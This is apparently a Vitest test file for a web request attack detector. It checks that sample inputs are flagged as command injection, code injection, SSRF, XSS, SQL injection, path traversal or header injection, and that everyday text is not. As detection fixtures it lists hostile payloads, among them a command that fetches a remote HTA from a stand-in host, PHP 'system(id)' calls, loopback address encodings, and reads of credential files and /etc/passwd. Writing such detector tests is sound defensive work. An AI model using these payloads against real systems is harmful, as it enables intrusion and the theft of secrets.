import { describe, expect, it } from 'vitest';
import { targetPrefilter } from '../../src/detections/requests/prefilter.ts';
import { scoreRequest } from '../../src/detections/requests/score-request.ts';

const of = (value: string): string[] => scoreRequest({ target: `/p?v=${encodeURIComponent(value)}` }).map(s => s.family);
const path = (target: string): string[] => scoreRequest({ target }).map(s => s.family);

const attacks: Record<string, readonly string[]> = {
  'command-injection': [
    'if /i "%COMPUTERNAME%" equ "SRV01" del c:\\x',
    'IF   NOT   EXIST c:\\inetpub\\out.txt md c:\\inetpub',
    'if %errorlevel% neq 0 goto again',
    'for %- in (1 2 3) do calc',
    'time curl http192.example',
    'sudo -n whoami',
    "nohup 'wget' x.example/a",
    '/tmp/a; bash -c "sleep 9"',
    "w''hoami",
    'c""url x.example',
    'pi$@ng 192.0.2.1',
    'u\\name -a',
    '/us$@r/lo$*cal/',
    '{,ifconfig}',
    '{ping,}',
    '/???/??t /???/p??s??',
    'alias q=cat',
    'x; mshta http://x.example/a.hta',
  ],
  'code-injection': [
    'array_filter($x, $y)',
    'gzinflate(base64_decode("x"))',
    'exec/* a */(1)',
    'phpinfo#\n()',
    "('system')('id');",
    '["passthru"][0]("id")',
    "'sy'.'st'.'em'",
    '${"GLOB"}("x")',
    '$cmd("id")',
    '@$_x["a"](1)',
    'while(true){}',
    'while (!0);',
    'process["mainModule"]',
    'this.constructor.constructor',
    'process.env',
  ],
  template: ['@{[ system("id") ]}', '<% if system("id") %>'],
  ssrf: [
    'http://0x7f000001/',
    'http://2130706433/',
    'http://0177.0.0.1/',
    'http://[::ffff:7f00:1]/',
    'http://①②⑦.⓪.⓪.①/',
    'localhost:8080/admin',
    'host.docker.internal/api',
    'local_file:///x',
    'jar:http://x.example/a.zip!/b',
  ],
  xss: [
    '< s c r i p t >',
    'x" formaction=//x.example',
    'background:url( javascript:1 )',
    '[].map.call`${x}`',
    'setInterval(name, 9)',
    "eval('1')",
    '+ADw-script+AD4-',
    'data:text,<x y>',
  ],
  sqli: [
    '7=7',
    '1 except select 2',
    '1 intersect all select 2',
    'x having max(a) > 1',
    "execute immediate 'x'",
    "lo_export(1,'/tmp/a')",
    "pg_ls_dir('/')",
    'password::int',
    'select sleep (9)',
    'create or replace function f(a int) returns int',
    '{"a":1}\' -> \'$.a',
    "x' or abc!",
    "x' xor '1'<",
    "x' glob '*",
  ],
  'path-traversal': ['/backup/shop-database.sql.gz', 'x/.aws/credentials', '.bash_history'],
  'header-injection': ['x\r\nRCPT TO:<a@x.example>', 'x\r\nQUIT', 'x\r\na1 SELECT INBOX', 'x\r\nDELE 1'],
};

/** What people write that looks like it. */
const harmless = [
  'US$100 (税込)',
  '$100 (tax incl.)',
  'if x then y',
  'if you like it, buy two',
  'as if == equal',
  'time who am I',
  'time for a ping pong table',
  'sudo nimm 2',
  'env variables explained',
  '{id,name}',
  '{ id, name, branch }',
  'a{2,5}',
  "that's the joke",
  "we'd like it",
  "I'd rather not",
  'what?? why??',
  'alias Smith',
  'std::string',
  'Foo::bar',
  'in case when it rains',
  'except Monday',
  'having lunch',
  'execute the plan',
  'localhost',
  'internal',
  'data: 5 items',
  'wait while (open)',
  'function of the heart',
  'call me `maybe`',
  'process management',
  'the constructor of houses',
  'require [signature]',
  '1=one',
  'page 3 of 7',
  'https://www.example.jp/8080/a',
  'http://192.0.2.1.example.jp/',
  '03-1234-5678',
  '2130706433',
  'mail from: hanako',
  'line one\r\nline two',
  'backup plan',
  'database design',
  'and 1',
  'or so',
  'xor gate',
  'globe theatre',
  '年齢>20 のお客様',
  'ペット(犬)',
  'C++ (template)',
  '50% off {limited}',
];

describe('what our signatures read, in our own words', () => {
  for (const [family, values] of Object.entries(attacks)) {
    it(family, () => {
      expect(values.filter(v => !of(v).includes(family))).toEqual([]);
      const prefilter = new RegExp(targetPrefilter);
      expect(values.filter(v => !prefilter.test(`/p?v=${v}`.toLowerCase()))).toEqual([]);
    });
  }

  it('hidden and left-over files in paths, and none of the everyday ones', () => {
    for (const target of [
      '/.env',
      '/app/.git/config',
      '/.claude/settings.json',
      '/.npmrc',
      '/@fs/etc/hosts',
      '/wp-content/debug.log',
      '/db.sql',
      '/x/.docker/config.json',
    ])
      expect([target, path(target)]).toEqual([target, ['path-traversal']]);
    for (const target of [
      '/.well-known/security.txt',
      '/news/2025.html',
      '/download/manual.pdf',
      '/static/environment.css',
      '/docs/git/',
      '/logs',
      '/users/.',
      '/sql-course',
    ])
      expect([target, path(target)]).toEqual([target, []]);
  });

  it('everyday text is none', () => {
    expect(harmless.map(v => [v, of(v)] as const).filter(([, f]) => f.length > 0)).toEqual([]);
  });

  it('commands and files in an agent, and no agent of a browser', () => {
    for (const userAgent of [';env', '; chmod +x a', 'cat /etc/passwd', 'x /proc/self/environ'])
      expect([userAgent, scoreRequest({ target: '/', userAgent }).map(s => s.family)]).toEqual([userAgent, ['command-injection']]);
    for (const userAgent of [
      'Mozilla/5.0 (X11; Linux x86_64; env) Gecko',
      'curl/8.0; env',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X; sh)',
      'Opera/9.80 (J2ME/MIDP; Opera Mini/9 (Compatible; MSIE:9.0; iPhone; BlackBerry9700; AppleWebKit/24.746; U; en) Presto/2.5.25',
    ])
      expect([userAgent, scoreRequest({ target: '/', userAgent })]).toEqual([userAgent, []]);
  });
});
